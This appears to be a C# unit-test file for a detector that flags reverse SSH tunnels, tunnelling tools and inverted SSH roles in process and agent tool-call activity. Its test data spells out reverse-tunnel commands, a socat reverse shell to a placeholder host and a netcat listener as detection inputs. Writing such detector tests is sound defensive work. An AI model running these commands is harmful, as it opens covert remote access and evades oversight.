using Aurelian.Events;

namespace Aurelian.UnitTests.Detection;

public sealed class TunnelDetectorTests
{
    public static TheoryData<string> ReverseSpellings =>
    [
        "ssh -R 2222:127.0.0.1:22 host.example", "ssh -NfR 8080:localhost:80 host.example",
            "ssh -R8080:a:1 host.example",
        "ssh -o RemoteForward=2222:localhost:22 host.example", "ssh -oRemoteForward=1:b:2 host.example",
        "ssh -o remoteforward|1|b:2 host.example", "ssh host.example -N -R 1:b:2",
            "ssh -p 443 -fNR 1:b:2 -- host.example",
        "autossh -M 0 -R 1:b:2 host.example", "dbclient -R 1:b:2 host.example",
            "chisel client srv.example R:1080:socks",
        "frpc -c frpc.ini", "ngrok tcp 22", "cloudflared tunnel --url http://localhost:80",
            "bore local 22 --to b.example",
        "socat TCP:out.example:443 TCP:127.0.0.1:22", "socat TCP:out.example:443 EXEC:/bin/bash",
        "python3 -c transport.request_port_forward('',2222)",
    ];

    [Theory]
    [MemberData(nameof(ReverseSpellings))]
    public void Reverse_forwarding_is_found_in_any_spelling(string commandLine)
    {
        Scene scene = new();

        scene.Exec(11, commandLine.Split(' ').Select(word => word.Replace('|', ' ')).ToArray());
        scene.Said(scene.Flow("198.18.0.1", 22, "host.example", 11), "ssh", "banner", "SSH-2.0-x", pid: 11);

        Finding finding = Assert.Single(scene.High);
        Assert.Equal(Category.Tunnel, finding.Category);
        Assert.Equal(new FlowId("f1"), finding.Flow);
        Assert.Equal(11, finding.Subject.Pid);
    }

    [Fact]
    public void Without_a_connection_the_command_line_is_enough_after_a_while()
    {
        Scene scene = new();

        scene.Exec(11, "ssh", "-R", "1:b:2", "host.example").Tick(1);
        Assert.Empty(scene.Findings);
        scene.Tick(3);

        Assert.Null(Assert.Single(scene.High).Flow);
    }

    [Fact]
    public void A_process_that_ends_at_once_is_found_all_the_same()
    {
        Scene scene = new();

        scene.Exec(11, "ssh", "-R", "1:b:2", "host.example").Add(new Fact.ProcessExited(255, 0), 11);

        Assert.Single(scene.High);
    }

    [Fact]
    public void A_renamed_client_is_found_by_what_it_speaks()
    {
        Scene scene = new();

        scene.Exec(11, "/tmp/updater", "-N", "-R", "2222:127.0.0.1:22", "host.example");
        scene.Said(scene.Flow("198.18.0.1", 443, "host.example", 11), "ssh", "banner", pid: 11);

        Assert.Single(scene.High);
    }

    [Fact]
    public void Inverted_roles_are_a_reverse_tunnel_on_any_port()
    {
        Scene scene = new();

        scene.Said(scene.Flow("198.18.0.1", 443, "a.example"), "ssh", "kexinit", server: true,
            traits: ProtocolTraits.RoleInverted);

        Assert.Single(scene.High);
    }

    [Fact]
    public void Other_ssh_to_the_outside_is_medium()
    {
        Scene scene = new();

        scene.Exec(11, "ssh", "host.example", "uptime");
        scene.Said(scene.Flow("198.18.0.1", 2022, "host.example", 11), "ssh", "banner", pid: 11);

        Assert.Equal(Severity.Medium, Assert.Single(scene.Findings).Severity);
    }

    [Theory]
    [InlineData("ssh git@git.example git-upload-pack|'team/repo.git'", false)]
    [InlineData("ssh -o SendEnv=GIT_PROTOCOL -p 2222 git@git.example git-receive-pack|'r.git'", false)]
    [InlineData("ssh -L 80:x:80 git@git.example git-upload-pack|'r.git'", true)]
    [InlineData("ssh -o ProxyCommand=x git@git.example git-upload-pack|'r.git'", true)]
    [InlineData("ssh git@git.example bash", true)]
    [InlineData("ssh -N git@git.example git-upload-pack|'r.git'", true)]
    public void Git_over_ssh_is_clean_only_as_git_calls_it(string commandLine, bool found)
    {
        Scene scene = new();

        scene.Exec(11, commandLine.Split(' ').Select(word => word.Replace('|', ' ')).ToArray());
        scene.Said(scene.Flow("198.18.0.1", 22, "git.example", 11), "ssh", "banner", pid: 11);

        Assert.Equal(found, scene.Findings.Count > 0);
    }

    [Theory]
    [InlineData("cd /tmp && nohup ssh -fNR 2222:127.0.0.1:22 host.example &", true)]
    [InlineData("echo 'ssh -R 2222:127.0.0.1:22 host.example' >> notes.md", false)]
    [InlineData("cat > notes.md <<EOF\nssh -R 2222:127.0.0.1:22 host.example\nEOF", false)]
    [InlineData("grep -rn 'ngrok tcp' . | head", false)]
    [InlineData("nc -lvp 4444", false)]
    public void Where_only_a_call_s_text_is_known_it_tells(string command, bool found)
    {
        CaptureScene scene = new();

        scene.Add(new Fact.ToolCallStarted(1, "bash", command));

        Assert.Equal(found, scene.High.Any());
    }

    [Fact]
    public void A_capture_s_inverted_roles_are_a_reverse_tunnel_and_other_ssh_is_nothing()
    {
        CaptureScene scene = new();
        FlowId flow = new("1.f1");

        scene.Add(new Fact.ProtocolSeen(flow, "ssh", FlowDirection.Client, "banner", "SSH-2.0-x", []));
        Assert.Empty(scene.Findings);
        scene.Add(new Fact.ProtocolSeen(
            flow, "ssh", FlowDirection.Server, "kexinit", null, [ProtocolTraits.RoleInverted]));

        Assert.Single(scene.High);
    }

    [Theory]
    [InlineData("grep -R needle .")]
    [InlineData("rsync -R a b")]
    [InlineData("ls -R /workspace")]
    [InlineData("socat TCP-LISTEN:8080 TCP:127.0.0.1:80")]
    public void Look_alikes_stay_quiet(string commandLine)
    {
        Scene scene = new();

        scene.Exec(11, commandLine.Split(' ')).Tick(10);

        Assert.Empty(scene.Findings);
    }
}
